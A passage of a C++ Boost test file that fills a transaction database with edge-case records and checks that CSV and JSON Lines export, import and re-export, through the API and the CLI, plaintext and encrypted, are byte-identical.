  w(r2);

  auto add = [&](Transaction t) { must(db.add_transaction(std::move(t))); };
  Transaction t = sample_txn(10, 123456, "2024-02-29T23:59:59.999Z");
  t.currency = "EUR";
  t.description = "Rent\nMarch, \"flat 3\"\tpaid";
  t.product = "=SUM(A1)";
  add(t);
  t = sample_txn(10, -99999, "2024-03-01T00:00:00Z");  // a refund: negative
  t.currency = "EUR";
  t.kind = TransactionKind::kWithdrawal;
  t.channel = Channel::kBranch;
  t.description = "";
  add(t);
  t = sample_txn(11, 100000000000000, "2024-03-02T12:00:00+02:00");  // large
  t.currency = "EUR";
  add(t);
  t = sample_txn(11, 123456, "2024-03-03T00:00:00Z");  // JPY, no decimals, base in EUR
  t.currency = "JPY";
  t.base_amount = 75812;
  t.description = "\xe6\x9d\xb1\xe4\xba\xac";
  add(t);
  t = sample_txn(12, 4250, "2024-03-04T00:00:00Z");
  t.currency = "USD";
  t.base_amount = 3911;
  t.product = "'quoted";
  add(t);
}

}  // namespace

BOOST_DATA_TEST_CASE(export_import_export_is_byte_identical, kModes, mode) {
  for (Format f : {Format::kCsv, Format::kJsonLines}) {
    BOOST_TEST_CONTEXT((f == Format::kCsv ? "csv" : "jsonl")) {
      TempDir dir;
      Database a = open_db(mode, dir.path() / "a", Options{.base_currency = "EUR"});
      fill(a);
      Database b = open_db(mode, dir.path() / "b", Options{.base_currency = "EUR"});
      for (Table table : {Table::kCustomers, Table::kRelationships, Table::kTransactions}) {
        BOOST_TEST_CONTEXT(io::to_string(table)) {
          const std::string first = export_string(a, table, f, {.reveal = true});
          const fs::path file = dir.path() / (std::string(io::to_string(table)) +
                                              (f == Format::kCsv ? ".csv" : ".jsonl"));
          write_bytes(file, first);
          auto r = io::import_file(b, table, file, f);
          BOOST_TEST_REQUIRE(r.has_value(), (r ? "" : r.error().to_string()));
          BOOST_TEST(r->bad.empty());
          const std::string second = export_string(b, table, f, {.reveal = true});
          BOOST_TEST(second == first);
        }
      }
      // Timestamps kept, aggregates recomputed equal.
      for (CustomerId id : {10, 11, 12}) {
        Customer x = must_get(a, id), y = must_get(b, id);
        BOOST_TEST(x.created_at == y.created_at);
        BOOST_TEST(x.updated_at == y.updated_at);
        BOOST_TEST(x.consent_sms.date == y.consent_sms.date);
        BOOST_TEST(x.aggregates.txn_count == y.aggregates.txn_count);
        BOOST_TEST(x.aggregates.total_amount == y.aggregates.total_amount);
      }
      require_clean(b);
    }
  }
}

BOOST_AUTO_TEST_CASE(cli_round_trip_encrypted_and_plain) {
  TempDir dir;
  const std::string key = (dir.path() / "key").string();
  write_bytes(key, std::string(64, 'a') + "\n");
  for (bool encrypted : {false, true}) {
    BOOST_TEST_CONTEXT((encrypted ? "encrypted" : "plaintext")) {
      const std::string a = (dir.path() / (encrypted ? "ea" : "pa")).string();
      const std::string b = (dir.path() / (encrypted ? "eb" : "pb")).string();
      {
        Options o{.base_currency = "EUR"};
        if (encrypted) o.key = KeyMaterial::from_raw_key(std::vector<std::uint8_t>(32, 0xaa)).value();
        Database db = must(Database::open(a, o));
        fill(db);
      }
      std::vector<std::string> extra;
      if (encrypted) extra = {"--key-file", key};
      auto cli = [&](std::vector<std::string> args) {
        args.insert(args.end(), extra.begin(), extra.end());
        auto o = run_cli(args);
        BOOST_TEST_REQUIRE(o.code == 0, o.describe());
        return o;
      };
      std::vector<std::string> init = {"init", "--db", b, "--currency", "EUR"};
      if (encrypted) init.push_back("--encrypt");
      cli(init);
      for (const char* table : {"customers", "relationships", "transactions"}) {
        for (const char* ext : {".csv", ".jsonl"}) {
          BOOST_TEST_CONTEXT(table << ext) {
            const std::string f1 = (dir.path() / (std::string(table) + "1" + ext)).string();
            const std::string f2 = (dir.path() / (std::string(table) + "2" + ext)).string();
            cli({"export", table, "--reveal", "--out", f1, "--db", a});
            if (std::string(ext) == ".csv") cli({"import", table, f1, "--db", b});
            cli({"export", table, "--reveal", "--out", f2, "--db", b});
            BOOST_TEST(read_bytes(f1) == read_bytes(f2));
          }
        }
      }
    }
  }
}

BOOST_AUTO_TEST_SUITE_END()
